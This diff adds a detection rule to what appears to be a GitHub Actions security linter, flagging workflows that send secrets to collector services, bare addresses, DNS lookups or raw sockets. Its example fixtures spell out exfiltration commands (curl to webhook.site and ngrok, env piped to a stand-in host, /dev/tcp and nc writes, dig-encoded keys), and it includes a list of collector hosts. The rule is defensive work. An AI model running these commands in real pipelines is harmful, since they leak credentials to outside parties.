@@ -1,0 +1,161 @@
+import { type Definition, type Step, stepsOf } from '../../workflow/model.ts';
+import { isResolver, type Transmission, transmissionsOf } from '../../workflow/secret-flow.ts';
+import { defineRule, type Report, type Severity, yaml } from '../rule.ts';
+
+type Message = 'collector' | 'environment' | 'lookup' | 'encoded' | 'address' | 'token' | 'socket';
+
+/** Services that show anybody what is sent to them, and tunnels to machines without a name. */
+const COLLECTOR =
+  /(?:^|\.)(?:webhook\.site|requestbin\.(?:com|net)|requestcatcher\.com|pipedream\.net|beeceptor\.com|hookbin\.com|interact\.sh|interactsh\.com|oast\.(?:pro|live|site|online|fun|me)|oastify\.com|burpcollaborator\.net|dnslog\.cn|ceye\.io|ngrok\.(?:io|app|dev)|ngrok-free\.(?:app|dev)|trycloudflare\.com|serveo\.net|localhost\.run|loca\.lt|pastebin\.com|paste\.ee|termbin\.com|transfer\.sh|file\.io|0x0\.st|bashupload\.com)$/;
+
+const GITHUB =
+  /(?:^|\.)(?:github\.com|githubusercontent\.com|githubapp\.com|githubcopilot\.com|github\.ai|ghcr\.io|ghe\.com)$/;
+
+/** Serves GitHub's models for its tokens. */
+const GITHUB_PARTNERS: ReadonlySet<string> = new Set(['models.inference.ai.azure.com']);
+
+const LOCAL =
+  /^(?:localhost|127\.|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|169\.254\.|0\.0\.0\.0)|\.(?:local|internal|localhost)$/;
+const ADDRESS = /^\d{1,3}(?:\.\d{1,3}){3}$/;
+
+export const secretExfiltration = defineRule({
+  id: 'secret-exfiltration',
+  meta: {
+    title: 'Secret is sent to an unexpected place',
+    why: 'A secret that leaves the run belongs to whoever receives it. Planted workflows send secrets to collecting services, bare addresses or name lookups, often encoded so that the log does not mask them.',
+    attack:
+      'Somebody who could change the workflow, or a script it runs, adds one line; the next run posts the environment to a server of theirs. The GhostAction campaign took thousands of secrets like this.',
+    recommendation:
+      'Find out who added the line and why; if it was not meant, revoke every secret of the job. Send credentials only to the service they are for, in a header, and never the whole environment.',
+    limits:
+      'Only shell scripts in the workflow are read, and only destinations that are written out. A secret sent to a named host is taken as meant for it, unless it is the job’s own token.',
+    severity: 'MEDIUM',
+    confidence: 'high',
+    category: 'CICD-SEC-6',
+    surface: 'workflow',
+    rulesets: ['owasp'],
+    since: '0.1.0',
+    references: [
+      'https://docs.github.com/actions/reference/security/secure-use#potential-impact-of-a-compromised-runner',
+      'https://blog.gitguardian.com/ghostaction-campaign-3-325-secrets-stolen/',
+    ],
+    messages: {
+      collector: 'The secret {{secret}} is sent to {{host}}, where anybody can collect it.',
+      environment: 'The whole environment, with every secret in it, is sent to {{host}}.',
+      lookup: 'The secret {{secret}} is put into a name lookup, which carries it past a firewall.',
+      encoded: 'The secret {{secret}} is encoded twice, which hides it from the log’s mask, and sent to {{host}}.',
+      address: 'The secret {{secret}} is sent to the bare address {{host}}.',
+      token: 'The job’s token is sent to {{host}}, which is not part of GitHub.',
+      socket: 'The secret {{secret}} is written to a raw connection to {{host}}.',
+    },
+  },
+  examples: {
+    bad: [
+      {
+        yaml: yaml`
+          on: push
+          env:
+            KEY: \${{ secrets.API_KEY }}
+          jobs:
+            build:
+              runs-on: ubuntu-latest
+              steps:
+                # expect: collector
+                - run: curl -d "key=\${{ secrets.API_KEY }}" https://webhook.site/0b1c
+                - run: |
+                    copy="$KEY"
+                    # expect: collector
+                    curl -d "$copy" https://abc.ngrok.io/x
+                - run: |
+                    # expect: environment
+                    env | base64 | curl -X POST --data-binary @- https://acme.example/in
+                    # expect: environment
+                    curl -d "$(printenv)" "$URL"
+                    # expect: environment
+                    cat /proc/self/environ > /dev/tcp/198.51.100.7/443
+                # expect: lookup
+                - run: dig "$(echo $KEY | xxd -p).acme.example"
+                # expect: encoded
+                - run: curl "https://acme.example/?$(echo -n $KEY | base64 | base64)"
+                # expect: address
+                - run: curl -u "bot:$KEY" http://198.51.100.7:8080/
+                # expect: token
+                - run: "curl -H 'X-Token: \${{ github.token }}' https://api.acme.example/report"
+                # expect: socket
+                - run: echo "$KEY" | nc acme.example 4444
+        `,
+      },
+    ],
+    good: [
+      {
+        yaml: yaml`
+          on: push
+          env:
+            GITHUB_TOKEN: \${{ secrets.GITHUB_TOKEN }}
+            KEY: \${{ secrets.API_KEY }}
+          jobs:
+            build:
+              runs-on: ubuntu-latest
+              steps:
+                - run: |
+                    curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/repos/acme/app
+                    curl -H "Authorization: token $GITHUB_TOKEN" "$GITHUB_API_URL/repos/acme/app"
+                    curl -u "bot:\${{ github.token }}" https://raw.githubusercontent.com/acme/app/main/x
+                    curl -H "Authorization: Basic $(echo -n "bot:$KEY" | base64)" https://api.acme.example/
+                    curl -F package=@x "https://$KEY@push.acme.example/app/"
+                    curl -d "$KEY" http://localhost:8080/ http://10.0.0.4/
+                    curl -X POST "\${{ secrets.CHAT_WEBHOOK }}" -d "built"
+                    curl https://webhook.site/ping
+                    env | curl -d @- http://localhost:9200/
+                    env | sort
+                    env FOO=1 curl https://acme.example/
+                    dig acme.example
+                    nc -z acme.example 443
+        `,
+      },
+    ],
+  },
+  check: { workflow: check, action: check },
+});
+
+function* check(definition: Definition): Generator<Report<Message>> {
+  for (const step of stepsOf(definition)) {
+    if (step.run === undefined) continue;
+    for (const transmission of transmissionsOf(step)) yield* judge(transmission, step);
+  }
+}
+
+function* judge(transmission: Transmission, step: Step): Generator<Report<Message>> {
+  const { command, secrets, dump } = transmission;
+  if (secrets.length === 0 && !dump) return;
+  const hosts = transmission.hosts.filter((host) => !LOCAL.test(host));
+  // Everything it names is on the same machine or network.
+  if (hosts.length === 0 && transmission.hosts.length > 0) return;
+  const verdict = verdictOn(transmission, hosts);
+  if (verdict === undefined) return;
+  const [message, severity] = verdict;
+  yield {
+    message,
+    data: { secret: secrets[0] ?? '', host: hosts[0] ?? 'a computed destination' },
+    at: step,
+    span: command.span,
+    severity,
+    attributes: { hosts, kind: secrets.includes('github_token') ? 'write-token' : 'repo-secret' },
+  };
+}
+
+function verdictOn(
+  { command, secrets, dump, encodings }: Transmission,
+  hosts: readonly string[],
+): readonly [Message, Severity] | undefined {
+  if (dump) return ['environment', 'HIGH'];
+  if (isResolver(command)) return ['lookup', 'HIGH'];
+  if (hosts.some((host) => COLLECTOR.test(host))) return ['collector', 'HIGH'];
+  if (encodings > 1) return ['encoded', 'HIGH'];
+  if (hosts.some((host) => ADDRESS.test(host))) return ['address', 'MEDIUM'];
+  if (command.program !== 'curl' && command.program !== 'wget' && command.program !== 'http') {
+    return hosts.length > 0 ? ['socket', 'MEDIUM'] : undefined;
+  }
+  const foreign = hosts.length > 0 && hosts.every((host) => !GITHUB.test(host) && !GITHUB_PARTNERS.has(host));
+  return foreign && secrets.every((name) => name === 'github_token') ? ['token', 'MEDIUM'] : undefined;
+}
